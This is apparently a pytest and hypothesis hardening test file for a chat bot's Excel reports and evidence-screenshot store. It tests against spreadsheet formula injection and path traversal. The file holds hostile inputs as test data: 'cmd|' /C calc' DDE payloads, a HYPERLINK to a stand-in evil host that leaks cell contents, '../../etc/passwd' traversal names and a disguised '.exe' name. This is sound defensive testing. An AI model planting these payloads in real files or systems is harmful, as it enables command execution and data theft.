"""Hardening: spreadsheet cells never start a formula from user text; evidence files never leave their folder.

Extends tests/reports/test_report_render.py (fixed formula-like names in a hand-made report) and tests/domain/test_stats.py
(a HYPERLINK town) with property-based tests over the cell sanitiser and both workbook writers, and an end-to-end
run from a hostile roster, feed title and statistics file to the .xlsx files the bot sends. Extends
tests/handlers/test_evidence_chat.py (one "../x.jpg" name) with properties over every function that names, reads or deletes
evidence files.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook
from sqlmodel import select

from bot.content import load_library
from bot.domain import evidence as evidence_store
from bot.domain.incidents import StatRow, build_stats_report, import_stats
from bot.domain.roster import import_roster, parse_table
from bot.reports.incident_render import render_stats_xlsx
from bot.reports.render import (
    _FORMULA_STARTS,
    _MAX_CELL_CHARS,
    _text,
    add_sheet,
    render_xlsx,
)
from bot.storage.db import session
from bot.storage.models import Confirmation, Feed, FeedItem, Push, Unit
from bot.transport.base import FileData, Image
from tests.conftest import (
    ADMIN,
    EXAMPLE_ROSTER,
    LI,
    LIAISON_ROOM,
    OFFICE_ROOM,
    TZ,
    WANG,
    on_postgres,
)
from tests.hardening_strategies import FAST, ODD, SLOW, WORDS, long_text
from tests.reports.test_report_render import make_report, unit

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# openpyxl's own list of characters XML 1.0 forbids in a cell.
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

_formulaish = st.tuples(
    st.sampled_from(["", "\x00", "\x01", "\x0b", "\x1f"]),  # stripped as illegal: must not uncover a formula
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝", " =", "\n=", "'=", "=="]),
    st.sampled_from(
        [
            'HYPERLINK("http://evil.invalid","点我")',
            "cmd|' /C calc'!A0",
            "SUM(1+1)*cmd|'/C calc'!A0",
            "1+1",
            "2026-11-26",
            "",
            "@SUM(A1)",
        ]
    ),
).map("".join)
user_text = st.one_of(
    _formulaish,
    st.text(),
    st.sampled_from(WORDS + ODD),
    long_text(st.sampled_from(["=", "+1", "-", "@a"]), 32_760, 33_000),
)


def inert(value: str) -> bool:
    return not value.startswith(FORMULA_STARTS)


@FAST
@given(value=user_text)
@example(value="=" * 40_000)
@example(value="\x00=1+1")
def test_the_cell_sanitiser_never_leaves_a_formula(value):
    out = _text(value)
    assert inert(out)
    assert not XML_ILLEGAL.search(out)
    assert len(out) <= _MAX_CELL_CHARS  # Excel's limit, including the quote that disarms a formula
    cleaned = XML_ILLEGAL.sub("", value)
    if inert(cleaned):
        assert out == cleaned[:_MAX_CELL_CHARS]  # harmless text is kept as it is
    else:
        assert out == ("'" + cleaned)[:_MAX_CELL_CHARS]
    assert tuple(_FORMULA_STARTS) == FORMULA_STARTS


def assert_no_formula_cells(data: bytes) -> int:
    """Every string cell of the workbook is a plain string that starts no formula; returns how many there are."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert inert(cell.value), (ws.title, cell.coordinate, cell.value)
                    seen += 1
    return seen


@SLOW
@given(
    values=st.lists(
        st.one_of(user_text, st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.none()),
        min_size=1,
        max_size=6,
    )
)
def test_any_sheet_the_bot_writes_has_no_formula(values):
    wb = Workbook()
    wb.remove(wb.active)
    add_sheet(wb, "表", [f"列{i}" for i in range(len(values))], [values, list(reversed(values))], {1: "0.0%"})
    out = io.BytesIO()
    wb.save(out)
    assert_no_formula_cells(out.getvalue())


_names = st.one_of(_formulaish, st.text(min_size=1, max_size=30), st.sampled_from(WORDS + ODD))


@SLOW
@given(names=st.lists(_names, min_size=1, max_size=5), title=_names)
def test_reports_with_hostile_unit_names_and_titles_have_no_formula(names, title):
    units = [unit(n, i + 1, on_time=1, late=0, missed=1, median=3.0, level=n) for i, n in enumerate(names)]
    report = make_report(units)
    report.pushes[0] = type(report.pushes[0])(
        n=7,
        title=title,
        pushed_at=report.pushes[0].pushed_at,
        deadline=report.pushes[0].deadline,
        confirmed=1,
        total=2,
        missing_units=names,
    )
    report.red[:] = names
    report.black[:] = list(reversed(names))
    report.escalations.clear()
    report.escalations.update({n: names for n in names[:2]})
    assert assert_no_formula_cells(render_xlsx(report, TZ)) > 0


@SLOW
@given(
    towns=st.lists(
        _names.map(lambda t: t.replace("\x00", "")).filter(lambda t: 0 < len(t.strip()) <= 100),
        min_size=1,
        max_size=4,
        unique=True,
    ),
    case_type=_names.map(lambda t: t.replace("\x00", "")[:50]),
)  # the file reader drops NUL (PostgreSQL has none)
def test_incident_reports_with_hostile_towns_and_types_have_no_formula(engine, towns, case_type):
    with session(engine) as s:
        rows = [
            StatRow(i + 2, town, date(2026, 11, 16), date(2026, 11, 22), case_type, i + 1)
            for i, town in enumerate(towns)
        ]
        import_stats(s, rows, now=datetime(2026, 11, 26, tzinfo=UTC), source="test")
        report = build_stats_report(
            s, period_start=date(2026, 11, 16), period_end=date(2026, 11, 22), library=load_library()
        )
        s.rollback()
    assert assert_no_formula_cells(render_stats_xlsx(report)) > 0


HOSTILE_UNIT = '=HYPERLINK("http://evil.invalid/?"&A1,"点我领奖")'
HOSTILE_NAMES = [HOSTILE_UNIT, "+86 区反诈中心", "-1+2 单位", "@SUM(1,2) 镇", "\t=1+1", "\r=2+2"]


async def test_hostile_roster_feed_and_statistics_text_stays_inert_in_the_bot_reports(bot, transport, engine, clock):
    # A roster whose unit names (and a liaison's name) are formulas, a feed candidate titled like one, a statistics
    # file with formula towns: the weekly report and the incident 通报 the bot sends keep all of it as plain text.
    lines = EXAMPLE_ROSTER.read_text(encoding="utf-8").splitlines()
    rows = [line.split(",") for line in lines]
    rows += [[name, "镇街", f"=联络员{i}", "", "", "", "主"] for i, name in enumerate(HOSTILE_NAMES)]
    with session(engine) as s:
        import_roster(s, parse_table(rows))
        assert {u.name for u in s.exec(select(Unit))} >= {n.strip() for n in HOSTILE_NAMES}
        feed = Feed(url="https://feed.invalid/rss")
        s.add(feed)
        s.flush()
        s.add(
            FeedItem(
                feed_id=feed.id,
                guid="g",
                title="=cmd|' /C calc'!A0 冒充客服",
                link="",
                summary="-摘要",
                seen_at=clock(),
            )
        )
        s.commit()
    await transport.say(ADMIN, "推送 候选1", room_id=OFFICE_ROOM)
    await transport.say(WANG, "已转发", room_id=LIAISON_ROOM)
    stats = "镇街,周期,案件类型,警情数\n" + "".join(
        f'"{name.replace(chr(34), chr(34) * 2)}",2026-W47,"=刷单",{i + 1}\n' for i, name in enumerate(HOSTILE_NAMES)
    )
    await transport.send_file(ADMIN, FileData("警情.csv", stats.encode()), room_id=OFFICE_ROOM)
    await transport.say(ADMIN, "报表 周", room_id=OFFICE_ROOM)
    await bot.send_pending()
    sheets = {o.file.name: o.file.data for o in transport.sent if o.file is not None and o.file.name.endswith(".xlsx")}
    assert len(sheets) == 2, sorted(sheets)
    for name, data in sheets.items():
        wb = openpyxl.load_workbook(io.BytesIO(data))
        texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        # The hostile text is in the file (not dropped), each time behind a quote.
        assert any(t == "'" + HOSTILE_UNIT for t in texts), name
        assert "'=1+1" in texts and "'+86 区反诈中心" in texts, name  # (the roster trims the tab and CR)
        assert assert_no_formula_cells(data) > 10


# --- evidence files -----------------------------------------------------------------------------

_hostile_file_names = st.one_of(
    st.sampled_from(
        [
            "../../etc/passwd",
            "/etc/passwd",
            "..",
            ".",
            "./x",
            "a/../../b",
            "..\\..\\x",
            "C:\\x.png",
            "x\x00.png",
            "\x00",
            "x\n.png",
            "\u202egnp.exe",
            "x" * 101,
            "x" * 300,
            "．．／x",
            "~/x",
            "$HOME",
            "%2e%2e%2fx",
            "a\u2215b",
            "\u3000",
            "con",
            "." * 200,
        ]
    ),
    st.text(max_size=120),
    st.lists(st.sampled_from(["..", "/", "\\", ".", "a", "\x00", "é", "𝒳", "\u200b"]), max_size=12).map("".join),
)


@FAST
@given(name=_hostile_file_names)
def test_an_evidence_name_resolves_inside_the_folder_or_is_refused(tmp_path, name):
    folder = tmp_path / "evidence"
    folder.mkdir(exist_ok=True)
    try:
        path = evidence_store.evidence_path(folder, name)
    except ValueError:
        return
    assert path.parent == folder and path.name == name
    assert "\x00" not in name and len(name) <= evidence_store.MAX_NAME
    real = Path(os.path.realpath(path))
    assert real.parent == Path(os.path.realpath(folder)), real


@FAST
@given(
    data=st.one_of(
        st.binary(min_size=1, max_size=200),
        st.sampled_from([b"\x89PNG\r\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"RIFF....WEBP"]),
    )
)
def test_stored_screenshots_get_a_generated_name_in_the_folder(tmp_path, data):
    folder = tmp_path / "evidence"
    name = evidence_store.save_image(folder, data)
    assert re.fullmatch(r"[0-9a-f]{32}\.(png|jpg|gif|webp|img)", name), name
    assert (folder / name).read_bytes() == data and evidence_store.evidence_path(folder, name) == folder / name


@FAST
@given(names=st.lists(_hostile_file_names, min_size=1, max_size=4))
def test_retention_never_deletes_outside_the_folder(engine, roster, tmp_path, names):
    root = tmp_path / "root"
    folder = root / "data" / "evidence"
    folder.mkdir(parents=True, exist_ok=True)
    victims = [root / "data" / "relaybot.db", root / "passwd", tmp_path / "x.png", root / "data" / "x"]
    for victim in victims:
        victim.write_bytes(b"keep me")
    kept_name = evidence_store.save_image(folder, b"\x89PNG old")
    now = datetime(2026, 11, 26, tzinfo=UTC)
    with session(engine) as s:
        push = _a_push(s, now)
        unit_ids = [u.id for u in s.exec(select(Unit))]
        confs = []
        if on_postgres():  # its text cannot hold NUL, so no row can name such a file there
            names = [n.replace("\x00", "") for n in names]
        for unit_id, name in zip(unit_ids, [kept_name, *names], strict=False):
            conf = Confirmation(
                push_id=push.id,
                unit_id=unit_id,
                liaison_id=_liaison_of(s, unit_id),
                at=now,
                method="image",
                evidence_file=name[:100],
                evidence_at=now - timedelta(days=200),
            )
            s.add(conf)
            confs.append(conf)
        s.flush()
        evidence_store.expire(s, folder, now=now, keep=timedelta(days=90))
        assert all(c.evidence_file == "" for c in confs)  # a name that is no evidence file is forgotten too
        s.rollback()
    assert all(v.read_bytes() == b"keep me" for v in victims)
    assert not (folder / kept_name).exists()  # the real old screenshot was deleted


def _a_push(s, now):
    from bot.storage.models import Alert

    alert = Alert(title="t", created_at=now)
    s.add(alert)
    s.flush()
    push = Push(alert_id=alert.id, created_at=now, deadline=now, state="open")
    s.add(push)
    s.flush()
    return push


def _liaison_of(s, unit_id):
    from bot.storage.models import Liaison

    return s.exec(select(Liaison.id).where(Liaison.unit_id == unit_id)).first()


def _png(color=(200, 10, 10)) -> bytes:
    from PIL import Image as PILImage

    out = io.BytesIO()
    PILImage.new("RGB", (30, 30), color).save(out, format="PNG")
    return out.getvalue()


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "..\\..\\evil.png", "x" * 5000, "\u202egnp.exe", "../../" + "a" * 250]
    + ([] if on_postgres() else ["x\x00.png"]),
)
# (PostgreSQL cannot store the NUL of a name: test_hardening_messages.py's NUL test covers that gap.)
async def test_a_screenshot_name_from_the_chat_never_becomes_a_path(bot, transport, engine, settings, tmp_path, name):
    bot.evidence.ocr = False
    await transport.say(ADMIN, "推送 刷单", room_id=OFFICE_ROOM)
    before = {p for p in tmp_path.rglob("*")}
    await transport.send_image(LI, Image(name, _png()), room_id=LIAISON_ROOM)
    folder = Path(settings.evidence_dir)
    with session(engine) as s:
        conf = s.exec(select(Confirmation)).one()
    assert re.fullmatch(r"[0-9a-f]{32}\.png", conf.evidence_file)
    created = {p for p in tmp_path.rglob("*")} - before
    assert {
        p
        for p in created
        if p.is_file()
        and p.suffix != ".db"
        and "-wal" not in p.name
        and "-shm" not in p.name
        and "-journal" not in p.name
    } == {folder / conf.evidence_file}
    assert await bot.check_evidence() == 1


async def test_a_tampered_evidence_row_is_not_followed_out_of_the_folder(bot, transport, engine, settings, tmp_path):
    bot.evidence.ocr = False
    secret = tmp_path / "secret.png"
    secret.write_bytes(_png((1, 2, 3)))
    await transport.say(ADMIN, "推送 刷单", room_id=OFFICE_ROOM)
    await transport.send_image(LI, Image("a.png", _png()), room_id=LIAISON_ROOM)
    with session(engine) as s:
        conf = s.exec(select(Confirmation)).one()
        conf.evidence_file = "../secret.png"
        s.add(conf)
        s.commit()
    assert await bot.check_evidence() == 1
    with session(engine) as s:
        conf = s.exec(select(Confirmation)).one()
    assert (conf.verdict, conf.verdict_reason, conf.evidence_hash) == ("存疑", "截图文件不见了", "")
    clock_later = bot.clock() + timedelta(days=365)
    bot.clock = lambda: clock_later
    await bot.expire_evidence()
    assert secret.read_bytes() == _png((1, 2, 3))
